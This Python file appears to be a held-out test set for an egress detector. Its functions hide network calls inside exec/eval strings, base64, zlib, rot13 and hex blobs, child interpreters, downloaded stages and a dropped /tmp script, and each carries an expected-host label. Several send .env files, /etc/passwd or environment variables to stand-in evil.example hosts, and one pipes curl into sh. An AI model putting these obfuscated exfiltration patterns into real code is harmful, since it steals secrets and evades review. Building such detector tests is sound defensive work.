# Held-out evasion set: the sending code is carried as data (a string, an encoded blob, a download)
# and run with exec/eval/compile or a child interpreter. Never executed.
import base64
import codecs
import importlib
import os
import runpy
import subprocess
import sys
import urllib.request
import zlib

import requests


def exec_plain_string():
    # expect: egress host=str.evil.example
    exec("import requests; requests.post('https://str.evil.example/a', data=open('.env').read())")


def eval_import_call():
    # expect: egress host=203.0.113.31
    eval("__import__('urllib.request').request.urlopen('http://203.0.113.31/x')")


def exec_base64():
    # expect: egress host=stage.evil.example
    exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8vc3RhZ2UuZXZpbC5leGFtcGxlL3MnLCBkYXRhPW9wZW4oJy9ldGMvcGFzc3dkJywncmInKS5yZWFkKCkp"))


def exec_zlib_base64():
    # expect: egress host=zlib.evil.example
    exec(zlib.decompress(base64.b64decode("eJw1xjsKgDAMANDdU3RLC5LugoeJNGChn9jEIp7eyTe9XKUPc4Ovm9V0+YPS1TycZqJbjG/JB/LMBfmhKoWjwOoSGe1duHlAbhMCDqbkQ/gAfbIeag==")))


def exec_rot13():
    # expect: egress host=rot.evil.example
    exec(codecs.decode("vzcbeg erdhrfgf; erdhrfgf.trg('uggcf://ebg.rivy.rknzcyr/g')", "rot13"))


def exec_hex():
    code = bytes.fromhex(
        "696d706f727420736f636b65743b20736f636b65742e6372656174655f636f6e6e656374696f6e2828273230332e302e3131332e3330272c203434343429292e73656e64616c6c286227782729"
    ).decode()
    # expect: egress host=203.0.113.30
    exec(code)


def compile_then_exec():
    blob = compile("import requests\nrequests.get('https://compiled.evil.example/c')", "<cfg>", "exec")
    # expect: egress host=compiled.evil.example
    exec(blob)


def builtins_lookup():
    import builtins

    run = vars(builtins)["exec"]
    # expect: egress host=vars.evil.example
    run("import requests; requests.post('https://vars.evil.example/v')")


def getattr_builtins():
    import builtins

    # expect: egress host=ga.evil.example
    getattr(builtins, "ex" + "ec")("import requests; requests.get('https://ga.evil.example/g')")


def exec_shell_in_string():
    # expect: egress host=b64sh.evil.example
    exec("import os;" + base64.b64decode("b3Muc3lzdGVtKCdjdXJsIC1zIGh0dHBzOi8vYjY0c2guZXZpbC5leGFtcGxlL2kgfCBzaCcp").decode())


def python_dash_c():
    # expect: egress host=pyc.evil.example
    subprocess.Popen([sys.executable, "-c", "import requests; requests.post('https://pyc.evil.example/p')"])


def python_dash_c_shell():
    # expect: egress host=203.0.113.32
    os.system("python3 -c \"import urllib.request as u; u.urlopen('http://203.0.113.32/q')\"")


def exec_download():
    # expect: egress host=raw.evil.example
    exec(requests.get("https://raw.evil.example/stage2.py").text)


def exec_download_decoded():
    # expect: egress host=paste.evil.example
    payload = urllib.request.urlopen("https://paste.evil.example/raw/1").read()
    # expect: egress host=paste.evil.example
    exec(base64.b64decode(payload))


def write_then_run():
    path = "/tmp/.cache_upd.py"
    with open(path, "w") as fh:
        fh.write("import requests\nrequests.post('https://dropper.evil.example/d', data=open('.env').read())\n")
    # expect: egress host=dropper.evil.example
    runpy.run_path(path)


def import_module_send():
    # expect: egress host=im.evil.example
    importlib.import_module("requests").post("https://im.evil.example/i", json=dict(os.environ))


def dunder_import_dotted():
    # expect: egress host=di.evil.example
    __import__("urllib.request", fromlist=["urlopen"]).urlopen("https://di.evil.example/u")


def sys_modules_lookup():
    # expect: egress host=sm.evil.example
    sys.modules["requests"].post("https://sm.evil.example/s", data=str(os.environ))


# ---- look-alikes: code in strings that sends nothing ----


def benign_exec():
    # expect: none
    exec("result = sum(range(10))")


def benign_eval():
    # expect: none
    return eval("1 + 2 * 3")


def benign_b64():
    # expect: none
    exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))


def benign_compile():
    # expect: none
    return compile("x = 'requests.post'", "<s>", "exec")


def benign_python_c():
    # expect: none
    subprocess.run([sys.executable, "-c", "import sys; print(sys.version)"], check=True)


def benign_import_module():
    # expect: none
    return importlib.import_module("json").dumps({"url": "https://drop.evil.example"})
